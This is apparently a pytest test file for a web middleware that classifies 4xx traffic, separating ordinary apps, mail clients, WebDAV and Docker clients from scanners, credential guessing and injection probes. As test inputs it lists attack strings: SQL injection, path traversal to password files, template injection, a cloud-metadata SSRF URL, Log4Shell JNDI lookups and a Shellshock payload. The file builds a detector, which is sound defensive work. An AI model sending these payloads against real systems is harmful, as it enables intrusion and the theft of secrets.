"""Answers of 4xx through the whole middleware: what apps, boards and other servers meet, and what scanners do."""

from __future__ import annotations

import random
from collections.abc import Iterable

import pytest

from tests.benchmarks.detect.columns import Ours, Verdict
from tests.benchmarks.detect.programs import headers_of
from tests.benchmarks.detect.site import HTML, JSON, Reply
from tests.benchmarks.detect.traffic import Headers, Request

from .test_calls import BROWSER, CALLED, DATA, GONE, PAGE, PHONE, TOOL, ours, send, touched

__all__ = ["ours"]  # a fixture
OUTSIDE = BROWSER.page("https://mail.example/")
FORBIDDEN, INVALID = Reply(403, JSON), Reply(400, JSON)


def save(
    ours: Ours, paths: Iterable[str], headers: Headers, reply: Reply, method: str, gap: float = 2.0, start: float = 10.0
) -> list[Verdict]:
    """Send something of another length each time."""
    sent = []
    for number, path in enumerate(paths):
        length = (b"content-length", b"%d" % (40 + number))
        sent.append(Request(start + gap * number, "84.130.9.9", method, path, b"", (*headers, length)))
    return [ours.judge(request, reply) for request in sent]


# Sensitive paths


def test_what_is_gone_behind_one_door_of_the_site_is_one_thing(ours: Ours) -> None:
    """Bookmarks of projects in a site's own console; operations of an API that this user may not call."""
    assert touched(send(ours, [f"/console/projects/{number}" for number in range(4)], 20.0, OUTSIDE, GONE)) == []
    calls = ["/graphql/Orders", "/graphql/Invoices", "/graphql/Members"]
    assert touched(send(ours, calls, 2.0, PHONE, FORBIDDEN, "POST", 500.0)) == []
    tried = send(ours, ["/wp-login.php", "/xmlrpc.php"], 2.0, PHONE, GONE, start=5_000.0)
    assert tried[-1].signals == ("probing",)


def test_a_mail_program_that_looks_for_its_server_is_welcome(ours: Ours) -> None:
    """Outlook asks the site that the mail addresses are named after, again and again."""
    outlook = headers_of("Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)")
    paths = ["/autodiscover/autodiscover.xml", "/Autodiscover/Autodiscover.xml", "/autodiscover/autodiscover.json/v1.0"]
    assert touched(send(ours, paths * 20, 300.0, outlook, GONE, "POST")) == []


@pytest.mark.parametrize("path", ["/api/webauthn/credentials", "/api/credentials/17"])
def test_an_api_of_credentials_is_no_file_of_them(ours: Ours, path: str) -> None:
    assert touched(send(ours, [path], 1.0, PHONE, Reply(422, JSON), "POST")) == []
    assert touched(send(ours, ["/credentials.json"], 1.0, PHONE, GONE, start=50.0)) == [0]


# Errors


@pytest.mark.parametrize("ending", ["png", "webp", "pbf", "JPG"])
def test_pictures_that_are_missing_are_nobodys_fault(ours: Ours, ending: str) -> None:
    """An app learns by asking who has an avatar, and a map which tiles there are."""
    paths = [f"/avatars/{number}.{ending}" for number in range(200)]
    assert touched(send(ours, paths, 0.1, PHONE, GONE)) == []
    others = [f"/avatars/{number}.zip" for number in range(200)]
    assert send(ours, others, 0.1, PHONE, GONE, start=5_000.0)[-1].refused


def test_articles_that_cost_money_are_no_errors(ours: Ours) -> None:
    reader = headers_of("FreshRSS/1.27.1 (Linux; https://freshrss.org)")
    assert touched(send(ours, [f"/articles/{number}" for number in range(200)], 1.5, reader, Reply(402))) == []


def test_who_says_that_pages_sent_it_is_believed_as_far_as_pages_send_somebody(ours: Ours) -> None:
    """A list whose two hundred rows all fail; then a scanner with the headers of a browser's call."""
    assert touched(send(ours, [f"/api/rows/{number}" for number in range(200)], 0.1, CALLED, GONE)) == []
    scanned = send(ours, [f"/old/{number}.php" for number in range(1_000)], 0.1, CALLED, GONE, start=9_000.0)
    assert scanned[600].refused
    assert scanned[-1].refused


def test_who_is_known_to_the_app_may_ask_for_what_is_not_there(ours: Ours) -> None:
    """A folder in the Finder, layers that are not in a registry yet; a scanner has no such token."""
    token = (b"authorization", b"Basic eDp5")
    finder = (*headers_of("WebDAVFS/3.0.0 (03008000) Darwin/24.5.0 (arm64)"), token)
    asked = [path for number in range(150) for path in (f"/dav/._{number}", f"/dav/{number}/.DS_Store")]
    assert touched(send(ours, asked, 0.2, finder, GONE, "PROPFIND")) == []
    layers = [f"/v2/app/blobs/sha256:{number}" for number in range(300)]
    docker = headers_of("docker/28.1.1 go/go1.23.8")
    assert touched(send(ours, layers, 0.1, (*docker, token), GONE, "HEAD", start=9_000.0)) == []
    assert send(ours, layers, 0.1, docker, GONE, "HEAD", start=18_000.0)[-1].refused
    made_up = send(ours, [f"/old/{number}.php" for number in range(3_000)], 0.1, (*TOOL, token), GONE, start=27_000.0)
    assert made_up[-1].refused
    sensitive = ["/.env", "/.git/config", "/backup.sql", "/phpinfo.php", *layers]
    assert send(ours, sensitive, 0.1, (*TOOL, token), GONE, start=36_000.0)[3].flagged


def test_a_folder_that_is_mounted_is_asked_for_what_systems_look_for_in_each(ours: Ours) -> None:
    """By the Finder and Windows, hours of it, known to the app or not; and a scanner that asks by these methods."""
    files = ("._{}", "{}/.DS_Store", "{}/desktop.ini", "{}/Thumbs.db")
    asked = [f"/dav/{file.format(number)}" for number in range(400) for file in files]
    for start, more in enumerate([(), ((b"authorization", b"Basic eDp5"),)]):
        finder = (*headers_of("WebDAVFS/3.0.0 (03008000) Darwin/24.5.0 (arm64)"), *more)
        assert touched(send(ours, asked, 0.1, finder, GONE, "PROPFIND", start=10.0 + 4_000.0 * start)) == []
    folders = [f"/dav/{number}" for number in range(400)]
    listed = Reply(207, b"application/xml")
    assert touched(send(ours, folders, 0.5, finder, listed, "PROPFIND", start=9_000.0)) == []
    some = [path for number in range(30) for path in (f"/dav/{number}", f"/dav/new{number}")]
    there = [Reply(207, b"application/xml"), GONE]
    found = [send(ours, [path], 0.0, TOOL, there[n % 2], "PROPFIND", 12_000.0 + n)[0] for n, path in enumerate(some)]
    assert touched(found) == []
    scanned = send(ours, [f"/old/{number}" for number in range(90)], 0.5, TOOL, GONE, "PROPFIND", start=15_000.0)
    assert scanned[-1].refused


def test_a_scanner_that_says_that_pages_sent_it_is_refused_soon_after_what_a_page_may_ask_for(ours: Ours) -> None:
    """Also where it finds something now and then; a page that asks again for what is gone asks for nothing new."""
    parts = [f"/api/parts/{number % 20}" for number in range(600)]
    assert touched(send(ours, parts, 0.25, CALLED, GONE)) == []
    found = [
        ours.judge(
            Request(5_000.0 + n / 20, "84.130.9.9", "GET", f"/old/{n}.php", b"", CALLED), DATA if n % 9 == 0 else GONE
        )
        for n in range(360)
    ]
    assert [found[200].refused, found[-1].refused] == [False, True]
    injected = [
        Request(9_000.0 + n / 9, "84.130.9.9", "GET", "/api/item", b"id=1'+or+1=%d" % n, CALLED) for n in range(199)
    ]
    assert [ours.judge(one, Reply(500)) for one in injected][-1].refused


def barcode(number: int) -> str:
    """A number of an article with its last digit, as GS1 has it."""
    digits = f"{number:012}"
    return f"{digits}{-sum(int(digit) * (1, 3)[place % 2] for place, digit in enumerate(digits)) % 10}"


def test_who_takes_stock_of_what_the_site_does_not_know_guesses_nothing(ours: Ours) -> None:
    assert barcode(400638133393) == "4006381333931"
    dice = random.Random(3)
    stock = [f"/api/products/{barcode(dice.randrange(10**12))}" for _ in range(120)]
    assert touched(send(ours, stock, 3.0, PHONE, GONE)) == []
    phones = [f"/api/users/{491_700_000_000 + number}" for number in range(120)]
    assert send(ours, phones, 3.0, PHONE, GONE, start=5_000.0)[-1].refused
    assert send(ours, stock, 3.0, PHONE, FORBIDDEN, start=9_000.0)[-1].refused


@pytest.mark.parametrize(
    "path", ["/simple/acme-%d/", "/go/acme.example/m%d/@v/list", "/maven/acme/m%d/1.0/m%d-1.0.pom"]
)
def test_an_index_of_packages_is_asked_first_for_what_others_have(ours: Ours, path: str) -> None:
    asked = [path.replace("%d", str(number)) for number in range(200)]
    assert touched(send(ours, asked, 0.1, TOOL, GONE)) == []
    for start, kind in enumerate((HTML, b"text/plain", b"application/xml")):
        assert touched(send(ours, asked, 0.05, TOOL, Reply(200, kind), start=1_000.0 + 2_000.0 * start)) == []


# Credentials


@pytest.mark.parametrize(
    ("method", "path"),
    [("PATCH", "/api/cards/17"), ("PUT", "/api/members/3"), ("POST", "/api/authors/5/draft"), ("PATCH", "/payroll/9")],
)
@pytest.mark.parametrize("reply", [FORBIDDEN, INVALID], ids=["403", "400"])
def test_what_a_board_saves_while_nobody_is_logged_in_is_no_guess(
    ours: Ours, method: str, path: str, reply: Reply
) -> None:
    assert touched(save(ours, [path] * 100, CALLED, reply, method)) == []


@pytest.mark.parametrize("path", ["/graphql", "/mcp", "/api/notes", "/v1/batch"])
@pytest.mark.parametrize("headers", [PHONE, TOOL], ids=["phone", "tool"])
def test_what_an_app_sends_and_is_not_understood_is_no_guess(ours: Ours, path: str, headers: Headers) -> None:
    """After the API has changed, or a session of MCP is gone."""
    sent = (*headers, (b"content-type", b"application/json; charset=utf-8"))
    assert touched(save(ours, [path] * 100, sent, INVALID, "POST")) == []
    assert save(ours, [path] * 100, sent, FORBIDDEN, "POST", start=9_000.0)[-1].refused
    assert save(ours, [f"{path}/login"] * 100, sent, INVALID, "POST", start=18_000.0)[-1].refused
    assert save(ours, [path] * 100, headers, INVALID, "POST", start=27_000.0)[-1].refused, "a form"


def test_an_app_that_goes_on_after_its_session_is_gone_guesses_nothing_unless_in_a_hurry(ours: Ours) -> None:
    sent = (*PHONE, (b"content-type", b"application/json"))
    refused, events = Reply(401, JSON), ["/api/events"] * 200
    assert touched(save(ours, events, sent, refused, "POST", gap=3.0)) == []
    assert (
        touched(save(ours, [f"/api/notes/{number}" for number in range(200)], sent, refused, "PUT", start=2_000.0))
        == []
    )
    measured = (*TOOL, (b"content-type", b"text/plain"))
    assert touched(save(ours, ["/ingest"] * 200, measured, refused, "POST", start=3_000.0)) == []
    assert touched(save(ours, ["/api/auth/refresh"] * 200, CALLED, refused, "POST", start=5_000.0)) == []
    assert save(ours, events, sent, refused, "POST", gap=0.5, start=9_000.0)[-1].refused
    assert save(ours, ["/api/auth/verify"] * 100, CALLED, refused, "POST", start=18_000.0)[-1].refused


@pytest.mark.parametrize("path", ["/gift-cards/redeem", "/api/pay", "/api/auth", "/cards"])
def test_what_is_sent_to_be_accepted_is_guessed(ours: Ours, path: str) -> None:
    assert save(ours, [path] * 100, CALLED, FORBIDDEN, "POST")[-1].refused


@pytest.mark.parametrize("path", ["/webhook", "/stripe/webhooks", "/hooks/deploy"])
def test_a_server_whose_signature_is_refused_guesses_nothing(ours: Ours, path: str) -> None:
    sender = headers_of("GitHub-Hookshot/044aadd")
    assert touched(save(ours, [path] * 200, sender, Reply(401, JSON), "POST", gap=3.0)) == []
    assert save(ours, ["/api/connect"] * 100, sender, Reply(401, JSON), "POST", gap=3.0, start=9_000.0)[-1].refused


def test_a_method_in_small_letters_is_what_an_app_makes_of_it(ours: Ours) -> None:
    """uvicorn with h11 and Daphne hand it on as it came, and Django reads capitals."""
    guessed = save(ours, ["/login"] * 100, TOOL, Reply(401), "post")
    assert (guessed[-1].refused, guessed[-1].signals) == (True, ("credential_stuffing",))
    walked = send(ours, [f"/page/{number}" for number in range(200)], 1.5, TOOL, PAGE, "get", start=5_000.0)
    assert "many_pages_by_a_tool" in walked[-1].signals


# Pages


def test_markdown_is_a_page_to_a_library_and_a_part_of_one_to_a_browser(ours: Ours) -> None:
    pages = [f"/docs/{number * 7919 % 5000}.md" for number in range(300)]
    markdown = Reply(200, b"text/markdown; charset=utf-8")
    assert touched(send(ours, pages, 0.1, CALLED, markdown)) == []
    assert send(ours, pages, 2.2, TOOL, markdown, start=5_000.0)[-1].refused
    assert touched(send(ours, ["/docs/1.md"] * 90, 2.2, PHONE, markdown, start=9_000.0)) == []


def test_frames_of_a_page_are_no_pages_where_the_browser_does_not_say_so(ours: Ours) -> None:
    """Turbo over plain http, where browsers send no Fetch Metadata."""
    old = headers_of(BROWSER.agent.replace("157", "88"), ("accept-language", "de"))
    frames = [f"/orders/{number}/part" for number in range(90)]
    assert touched(send(ours, frames, 0.8, (*old, (b"turbo-frame", b"part")), PAGE)) == []
    assert send(ours, frames, 0.8, old, PAGE, start=5_000.0)[-1].flagged


# Parameters


ATTACKS = (
    b"id=1%27",
    b"id=1+UNION+ALL+SELECT+NULL",
    b"id=1%20AND%201=1",
    b"file=../../etc/passwd",
    b"q=%3Cscript%3E",
    b"id=1;SLEEP(5)",
)
FURTHER = (
    b"file=..%252f..%252f..%252fetc%252fshadow",
    b"file=....//....//boot.ini",
    b"name=%7B%7B7*7%7D%7D",
    b"name=$%7B7*7%7D",
    b"name=%7B%7B''.__class__%7D%7D",
    b"url=http://169.254.169.254/latest/meta-data/",
    b"page=php://filter/resource=index",
)


def tried(
    ours: Ours, queries: Iterable[bytes], headers: Headers, statuses: tuple[int, ...], gap: float = 2.0
) -> list[Verdict]:
    """Ask one page with one query after the other."""
    return [
        ours.judge(
            Request(10.0 + gap * number, "84.130.9.9", "GET", "/item", query, headers),
            Reply(statuses[number % len(statuses)]),
        )
        for number, query in enumerate(queries)
    ]


@pytest.mark.parametrize("headers", [TOOL, OUTSIDE], ids=["tool", "browser"])
def test_who_tries_the_parameters_of_one_page_is_blocked(ours: Ours, headers: Headers) -> None:
    assert tried(ours, ATTACKS * 7, headers, (200, 500, 400, 403))[-1].refused


@pytest.mark.parametrize("status", [400, 500])
def test_who_types_an_attack_and_reloads_what_comes_of_it_is_a_developer(ours: Ours, status: int) -> None:
    queries = [query for query in ATTACKS[:4] for _ in range(3)]
    assert touched(tried(ours, queries, BROWSER.page(typed=True), (status,), gap=0.7)) == []
    assert tried(ours, queries, TOOL, (status,))[1].flagged


@pytest.mark.parametrize("query", FURTHER)
def test_paths_written_otherwise_and_templates_are_tried_by_scanners(ours: Ours, query: bytes) -> None:
    assert touched(tried(ours, [b"name=%7B%7Bfirst_name%7D%7D", b"size=5*7", b"file=a/../b"] * 9, TOOL, (500,))) == []
    assert tried(ours, [query] * 2, TOOL, (500,))[1].signals == ("probing",)


@pytest.mark.parametrize("name", [b"referer", b"cookie", b"x-forwarded-for", b"x-api-version"])
@pytest.mark.parametrize("attack", [b"${jndi:ldap://a.example/x}", b"${${lower:j}ndi:dns://a}", b"() { :; }; /bin/id"])
def test_what_scanners_write_into_headers_is_a_probe_where_the_app_fails_at_it(
    ours: Ours, name: bytes, attack: bytes
) -> None:
    assert touched(tried(ours, [b""] * 9, (*TOOL, (name, b'{"a": "() => 1", "b": "${user}"}')), (500,))) == []
    assert tried(ours, [b""] * 2, (*TOOL, (name, attack)), (500,))[1].signals == ("probing",)


@pytest.mark.parametrize("padding", [b"a=" + b"x" * 3_000 + b"&", b"a=1&b=&" * 300, b"y" * 2_000])
def test_no_padding_hides_an_injection(ours: Ours, padding: bytes) -> None:
    assert tried(ours, [padding + attack for attack in ATTACKS] * 7, TOOL, (400, 500))[-1].refused
    plain = [padding + b"q=salt+and+pepper&page=%d" % page for page in range(40)]
    assert touched(tried(ours, plain, OUTSIDE, (404, 500), gap=90.0)) == []


@pytest.mark.parametrize(
    ("queries", "headers", "statuses"),
    [
        (ATTACKS * 7, BROWSER.page(), (200,)),  # asks the search of a site about programming
        (ATTACKS * 7, CALLED, (400, 500)),  # a page's script, whatever somebody types into it
        ([b"q=union+of+two+sets+select+one&page=%d" % page for page in range(40)], OUTSIDE, (500,)),
        ([b"name=O%27Brien", b"size=5'10", b"range=1..5", b"q=salt+and+pepper"] * 10, OUTSIDE, (404, 500)),
    ],
    ids=["answered", "script", "app at fault", "people"],
)
def test_who_asks_for_what_looks_alike_is_not(
    ours: Ours, queries: list[bytes], headers: Headers, statuses: tuple[int, ...]
) -> None:
    assert touched(tried(ours, queries, headers, statuses)) == []


def test_who_was_blocked_for_errors_and_goes_on_needs_a_quarter_of_them(ours: Ours) -> None:
    assert send(ours, [f"/a{number}.old" for number in range(70)], 0.5, TOOL, GONE)[-1].refused
    assert send(ours, [f"/b{number}.old" for number in range(7)], 0.5, TOOL, GONE, start=700.0)[-1].refused
